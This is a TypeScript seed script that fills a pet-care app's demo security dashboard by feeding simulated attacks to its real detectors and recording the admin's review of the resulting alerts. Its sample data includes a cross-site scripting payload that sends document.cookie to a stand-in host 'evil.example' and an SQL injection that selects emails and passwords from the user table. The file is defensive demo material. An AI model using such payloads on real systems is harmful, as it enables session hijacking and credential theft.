import { ddosDetection, scanInputs } from '@patili/domain/security';
import { eq } from 'drizzle-orm';

import type { CreatedUser } from '../lib/create-user.ts';
import type { Db } from '../db/client.ts';
import { securityAlert, user } from '../db/schema/index.ts';
import { changeAlertStatus } from '../features/security/alerts.service.ts';
import { raiseAlert } from '../lib/security/alerts.ts';
import { recordRefusal, recordRejectedPayload, recordSignIn } from '../lib/security/detect.ts';

/**
 * Security operations' demo: a few realistic days of events fed to the real detectors,
 * which raise the alerts as the running server would (no hand-made alert rows): a password-guessing
 * burst against the demo owner, a script injection and an SQL injection refused by validation, an
 * account probing other people's bookings, an address signing in to many accounts, and a traffic
 * spike. The admin has already closed two of them (logged in the action log).
 */

const MINUTE = 60_000;
const at = (now: Date, minutesAgo: number, secondsOffset = 0) => new Date(now.getTime() - minutesAgo * MINUTE + secondsOffset * 1000);

export const seedDemoSecurity = async ({
  db,
  accounts,
  adminEmail,
  now,
}: {
  db: Db;
  accounts: ReadonlyMap<string, CreatedUser>;
  adminEmail: string;
  now: Date;
}): Promise<{ alerts: number }> => {
  const owner = accounts.get('sahip@demo.patili.app');
  const newcomer = accounts.get('yeni@demo.patili.app');
  let alerts = 0;

  // 1. Someone guesses the demo owner's password from one address: 17 wrong passwords in 8 minutes.
  if (owner) {
    for (let attempt = 0; attempt < 17; attempt += 1) {
      await recordSignIn(db, { userId: owner.id, email: owner.email, ipAddress: '185.220.101.34', succeeded: false }, at(now, 95, attempt * 28));
    }
    alerts += 1;
  }

  // 2. A script in the e-mail field of a sign-in, refused by validation.
  const xssBody = { email: '"><script>fetch(`https://evil.example/c?${document.cookie}`)</script>', password: 'x' };
  await recordRejectedPayload(
    db,
    { matches: scanInputs(Object.entries(xssBody)), method: 'POST', path: '/api/auth/sign-in/email', status: 400, ipAddress: '45.146.164.110', userId: null, email: null },
    at(now, 60 * 7),
  );
  alerts += 1;

  // 3. An SQL injection in a search filter, refused by validation (already looked at and resolved).
  const sqliQuery = { severity: "' UNION SELECT email, password FROM \"user\"--" };
  await recordRejectedPayload(
    db,
    { matches: scanInputs(Object.entries(sqliQuery)), method: 'GET', path: '/api/providers', status: 422, ipAddress: '103.75.190.12', userId: null, email: null },
    at(now, 60 * 30),
  );
  alerts += 1;

  // 4. A signed-in account walking through other people's booking ids: 22 refusals in 4 minutes.
  if (newcomer) {
    for (let probe = 0; probe < 22; probe += 1) {
      await recordRefusal(
        db,
        { userId: newcomer.id, email: newcomer.email, ipAddress: '88.241.17.203', method: 'GET', path: '/api/bookings/{id}', status: 404 },
        at(now, 40, probe * 10),
      );
    }
    alerts += 1;
  }

  // 5. Six demo accounts signed in from one address within the hour (a shared office network).
  const signedIn = [...accounts.values()].slice(0, 6);
  for (const [index, account] of signedIn.entries()) {
    await recordSignIn(db, { userId: account.id, email: account.email, ipAddress: '78.180.44.12', succeeded: true }, at(now, 150, index * 240));
  }
  if (signedIn.length >= 5) alerts += 1;

  // 6. A traffic spike after a campaign e-mail, read by the rate monitor (judged a false alarm).
  const spike = await raiseAlert(db, ddosDetection({ recentPerSecond: 612, baselinePerSecond: 14.2 }, 'pid 4182'), at(now, 60 * 52));
  alerts += 1;

  // The admin's review: the SQL injection resolved, the spike a false positive.
  const [admin] = await db.select({ id: user.id, name: user.name }).from(user).where(eq(user.email, adminEmail)).limit(1);
  if (admin) {
    const actor = { adminId: admin.id, adminName: admin.name, ipAddress: '127.0.0.1' };
    const [sqli] = await db.select({ id: securityAlert.id }).from(securityAlert).where(eq(securityAlert.type, 'sql_injection_attempt')).limit(1);
    if (sqli) await changeAlertStatus({ db, actor, alertId: sqli.id, status: 'resolved', locale: 'tr', now: at(now, 60 * 29) });
    await changeAlertStatus({ db, actor, alertId: spike.id, status: 'false_positive', locale: 'tr', now: at(now, 60 * 51) });
  }
  return { alerts };
};
